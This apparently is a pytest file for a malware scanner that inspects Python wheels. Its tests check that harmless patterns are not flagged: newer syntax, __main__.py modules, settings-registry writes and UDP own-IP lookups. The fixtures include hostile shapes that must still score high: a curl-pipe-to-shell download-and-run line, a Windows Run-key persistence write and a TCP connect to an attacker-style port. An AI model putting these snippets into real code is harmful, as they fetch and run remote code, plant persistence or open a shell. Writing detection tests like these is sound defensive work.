"""Shapes of popular releases that cried wolf, read as what they are (each class found on the
tune-only popular-extra corpus, fixed without project names): Python 3.12+ syntax read on the
scanner's 3.11 instead of called unread, ``__main__.py`` not import time, a registry write not
autostart unless an autostart key is named, the UDP outgoing-address idiom not an endpoint.
Each test also keeps the malicious shape of the same code at high.
"""

from __future__ import annotations

from app.core.archive import open_artifact
from app.core.capabilities.pysyntax import downlevel
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import make_wheel

GENERIC = b"""from typing import Callable


def deco[**P, R](func: Callable[P, R]) -> Callable[P, R]:
    return func


class Box[T: (int, str)]:
    item: T


type Pair[K] = tuple[K, K]
"""


def _scan(tmp_path, files):
    return scan_artifact(open_artifact(make_wheel(tmp_path, name="modern", files=files)))


def test_type_parameters_and_aliases_are_read_not_unread(tmp_path):
    res = _scan(tmp_path, {"modern/__init__.py": GENERIC})
    assert not [h for h in res.findings if h.capability in ("scan.unread", "scan.unparsed")]
    assert res.risk.level in ("none", "low")


def test_code_beside_newer_syntax_is_still_analysed(tmp_path):
    payload = b"import os\nos.system('curl http://192.0.2.7/x | sh')\n"
    res = _scan(tmp_path, {"modern/__init__.py": GENERIC + payload})
    assert any(h.capability == "process.shell_download" and h.line == 14 for h in res.findings)
    assert res.risk.level in ("high", "critical")


def test_downlevel_leaves_ordinary_code_alone():
    assert downlevel("x = type(3)\ny = a[1]\n") is None
    assert downlevel("type = 3\n") is None
    assert downlevel("def f[T](x: T) -> T:\n    return x\n") == "def f(x: T) -> T:\n    return x\n"


def test_a_main_module_is_not_import_time(tmp_path):
    """``__main__.py`` runs when the user types ``python -m pkg``; ``__init__.py`` on import."""
    body = b"import urllib.request\nurllib.request.urlopen('https://example.invalid/ping')\n"
    res = _scan(tmp_path, {"modern/__init__.py": b"", "modern/__main__.py": body})
    main_hits = [h for h in res.findings if h.path == "modern/__main__.py"]
    assert main_hits and all(h.place == "" for h in main_hits)
    (tmp_path / "init").mkdir()
    res = _scan(tmp_path / "init", {"modern/__init__.py": body})
    assert any(h.place == "import" for h in res.findings if h.path == "modern/__init__.py")


def test_a_registry_write_is_autostart_only_where_an_autostart_key_is_named(tmp_path):
    """COM registration and settings stores write the registry all day; the Run key is what
    makes a write persistence."""
    settings = (
        b"import winreg\n"
        b"def save(name, value):\n"
        b"    key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r'Software\\Acme\\Settings')\n"
        b"    winreg.SetValueEx(key, name, 0, winreg.REG_SZ, value)\n"
    )
    res = _scan(tmp_path, {"modern/settings.py": settings})
    writes = [h for h in res.findings if h.capability == "persist.autostart"]
    assert writes and all(h.severity == "medium" for h in writes)
    assert not any(t.id == "impact.persistence" for t in res.threats)

    run_key = settings.replace(
        b"Software\\Acme\\Settings", b"Software\\Microsoft\\Windows\\CurrentVersion\\Run"
    )
    (tmp_path / "run").mkdir()
    res = _scan(tmp_path / "run", {"modern/settings.py": run_key})
    assert any(h.capability == "persist.autostart" and h.severity == "high" for h in res.findings)
    assert any(t.id == "impact.persistence" for t in res.threats)


def test_pep_701_f_strings_are_read_and_the_rest_analysed(tmp_path):
    """3.12 f-strings (the same quotes nested, backslashes in a field) do not parse on 3.11:
    the f-string is blanked for the parser (the text rules still read it), the file is not
    unread, and code beside it is analysed."""
    body = (
        b"import os\n"
        b"def show(row):\n"
        b'    return f"{row["name"]}: {"\\n".join(row["items"])}"\n'
        b"def run():\n"
        b"    os.system('curl http://192.0.2.7/x | sh')\n"
    )
    res = _scan(tmp_path, {"modern/fmt.py": body})
    assert not [h for h in res.findings if h.capability == "scan.unread"]
    assert any(h.capability == "process.shell_download" and h.line == 5 for h in res.findings)


def test_finding_the_outgoing_address_is_not_an_exfiltration_endpoint(tmp_path):
    """Servers learn their own IP by "connecting" a UDP socket to a public resolver and reading
    getsockname(): nothing is sent. A TCP connect to a hard-coded IP stays an endpoint."""
    lookup = (
        b"import socket\n"
        b"def internal_ip():\n"
        b"    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:\n"
        b"        s.connect(('8.8.8.8', 1))\n"
        b"        return s.getsockname()[0]\n"
    )
    res = _scan(tmp_path, {"modern/net_util.py": lookup})
    assert not [h for h in res.findings if h.capability == "net.exfil_endpoint"]

    shell = b"import socket\ns = socket.socket()\ns.connect(('192.0.2.7', 4444))\n"
    (tmp_path / "tcp").mkdir()
    res = _scan(tmp_path / "tcp", {"modern/net_util.py": shell})
    assert any(h.capability == "net.exfil_endpoint" for h in res.findings)
